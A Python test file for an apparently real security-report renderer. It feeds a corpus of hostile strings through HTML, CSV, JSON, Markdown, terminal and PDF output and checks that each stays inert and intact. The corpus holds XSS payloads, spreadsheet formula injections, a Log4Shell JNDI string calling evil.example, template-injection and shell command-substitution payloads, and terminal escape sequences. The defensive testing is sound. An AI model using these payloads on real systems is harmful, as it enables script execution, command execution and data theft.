"""A corpus of hostile text through every sink of a report: nothing runs, breaks or is lost."""

from __future__ import annotations

import csv
import io
import json
from functools import cache
from pathlib import Path
from typing import Any, Final

import pytest
from markdown_it import MarkdownIt
from msgspec.structs import replace
from selectolax.lexbor import LexborHTMLParser

from cyberscan.model.results import Results
from cyberscan.model.text import Untrusted, visible
from cyberscan.model.verdict import Finding
from cyberscan.render.edition import Edition, Format
from cyberscan.render.lang import LANGUAGES, Lang
from cyberscan.render.pages import edition_files
from cyberscan.render.paper import Paper
from cyberscan.render.terminal import summary_lines
from cyberscan.stories.printing import printing
from tests.render import sample
from tests.render.inert import require_inert
from tests.support.printed import squeezed, text_of
from tests.support.programs import need

CODE: Final = "99.01"
CHECK: Final = "mail/dmarc"
CORPUS: Final = (
    *sample.HOSTILE,
    # HTML: other ways to run, and to end what text stands in.
    "<svg/onload=alert(1)>",
    "</td></tr></table></main><h1>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "<!--[if IE]><script>x</script><![endif]-->",
    "<details open ontoggle=alert(1)>",
    "<style>@import url(https://evil.example)</style>",
    "</textarea><template><b",
    # Formulas of spreadsheets, and what ends a cell.
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'a","=1+1","',
    "a;=1+1;b",
    '";=1+1',
    "＝1+1",
    # Markdown: links, pictures, headings, tables, code, mentions.
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "# heading",
    "| a | b |",
    "```\ncode\n```",
    "~~~~ x",
    "<https://evil.example>",
    "**bold** __under__ ~~gone~~",
    "1. one\n2. two",
    "\\[x\\](y)",
    "https://evil.example/auto",
    # Templates, shells, terminals, rich's own marks.
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/x}",
    "`id`; $(id) | sh",
    "%s%n{0}{what!r}",
    "\x1b]0;title\x07\x1b[2J",
    "\x9b31m",
    "[/] [blink]x[/blink] :warning:",
    # Letters without a glyph, of two directions, of no width, outside Unicode.
    "\u2066abc\u2069\u200f\u061c",
    "a\u0000b\u000bc\u000cd\u0085e\u2028f\u2029g",
    "\ufffe\uffff\U0010ffff",
    "e" + "\u0301" * 40,
    "\u00ad\u2060\u180e\ufe0f",
    "x" * 290,
    "سلام שלום ไทย ꦗꦮ 汉字 😀",
)
PARSER: Final = MarkdownIt("gfm-like", {"linkify": False})
BY_FONT: Final = ("＝1+1", "سلام שלום ไทย ꦗꦮ 汉字 😀")
"""On paper a letter is a box where the machine's fonts lack it, and nobody reads it back."""
SHOWN: Final = 20
"""Places of a task that a page tells with their texts; it counts what is beyond."""
PARTS: Final = tuple(CORPUS[at : at + SHOWN] for at in range(0, len(CORPUS), SHOWN))
FORMATS: Final = (Format.HTML, Format.CSV, Format.JSON, Format.MARKDOWN)


@cache
def judged(part: int) -> Results:
    """Return results in which a finding each tells one text of a part of the corpus."""
    whole = sample.results()
    one = next(f for f in whole.findings if f.check == CHECK and f.fails and f.regency == CODE)
    told: list[Finding] = []
    for number, text in enumerate(PARTS[part]):
        foreign = Untrusted(text)
        verdict = replace(one.verdict, evidence=(foreign,), values={"what": foreign})
        told.append(replace(one, id=f"{number:016x}", verdict=verdict))
    rest = tuple(f for f in whole.findings if f.id != one.id)
    return replace(whole, findings=(*told, *rest))


@cache
def files(lang: Lang, part: int) -> dict[str, bytes]:
    edition = Edition(languages=(lang,), formats=FORMATS)
    return dict(edition_files(judged(part), sample.checks(), sample.remedies(), edition))


def words(text: str) -> str:
    return " ".join(visible(text).split())


@pytest.mark.parametrize("part", range(len(PARTS)))
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_page_shows_every_text_and_runs_none(lang: Lang, part: int) -> None:
    page = LexborHTMLParser(files(lang, part)[f"{CODE}.html"])
    require_inert(page)
    shown = " ".join(page.body.text().split()) if page.body else ""
    assert [text for text in PARTS[part] if words(str(Untrusted(text))) not in shown] == []


@pytest.mark.parametrize("part", range(len(PARTS)))
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_table_reads_back_with_every_text_and_no_formula(lang: Lang, part: int) -> None:
    source = files(lang, part)[f"{CODE}.csv"].decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(source, newline=""), strict=True))
    told = {next(iter(row.values())): row for row in rows}
    for number, text in enumerate(PARTS[part]):
        row = told[f"{number:016x}"]
        assert None not in row
        # What follows a semicolon may bear a mark of its own, for programs that separate there.
        wanted = str(Untrusted(text)).replace(";'", ";")
        cells = [(cell or "").lstrip("'").replace(";'", ";") for cell in row.values()]
        assert any(wanted in cell for cell in cells)
        assert not [c for c in row.values() if c and c[0] in "=+-@\t\r＝"]
    for parts in csv.reader(io.StringIO(source, newline=""), delimiter=";"):
        assert not [c for c in parts if c.strip()[:1] in {*"=+@＝"}]


@pytest.mark.parametrize("part", range(len(PARTS)))
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_program_gets_every_text(lang: Lang, part: int) -> None:
    findings: list[Any] = json.loads(files(lang, part)["results.json"])["findings"]
    told = {finding["id"]: finding["evidence"] for finding in findings}
    for number, text in enumerate(PARTS[part]):
        assert told[f"{number:016x}"] == [str(Untrusted(text))]


@pytest.mark.parametrize("part", range(len(PARTS)))
@pytest.mark.parametrize("lang", LANGUAGES)
def test_markdown_shows_every_text_and_makes_nothing_of_it(lang: Lang, part: int) -> None:
    source = files(lang, part)[f"{CODE}.md"].decode()
    plain = {token.type for token in PARSER.parse(_without(lang))}
    tokens = PARSER.parse(source)
    inner = [child for token in tokens for child in token.children or []]
    assert {token.type for token in tokens} <= plain
    assert not {"html_inline", "image", "link_open", "s_open"} & {child.type for child in inner}
    pieces = [token.content for token in tokens if token.type == "fence"]
    pieces += [child.content or " " for child in inner]
    shown = " ".join(" ".join(pieces).split())
    assert [text for text in PARTS[part] if words(str(Untrusted(text))) not in shown] == []


@cache
def _without(lang: Lang) -> str:
    edition = Edition(languages=(lang,), formats=(Format.MARKDOWN,))
    made = edition_files(sample.results(), sample.checks(), sample.remedies(), edition)
    return dict(made)[f"{CODE}.md"].decode()


@pytest.mark.parametrize("part", range(len(PARTS)))
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_terminal_gets_text_alone(lang: Lang, part: int) -> None:
    lines = list(summary_lines(judged(part), sample.checks(), lang))
    assert [line for line in lines if visible(line) != line] == []


@pytest.mark.real
@pytest.mark.parametrize("part", range(len(PARTS)))
@pytest.mark.parametrize("lang", LANGUAGES)
def test_paper_shows_every_text(lang: Lang, part: int) -> None:
    page = files(lang, part)[f"{CODE}.html"]
    with printing(Path(need("chromium"))) as printer:
        paper = Paper(
            name="x.pdf", html=page, head="<b></b>", foot="<b></b>", at=judged(part).judged_at
        )
        pdf = printer(paper)
    assert b"/JavaScript" not in pdf
    shown = squeezed(text_of(pdf, "-raw"))
    told = [text for text in PARTS[part] if text not in BY_FONT]
    assert [text for text in told if squeezed(str(Untrusted(text))) not in shown] == []
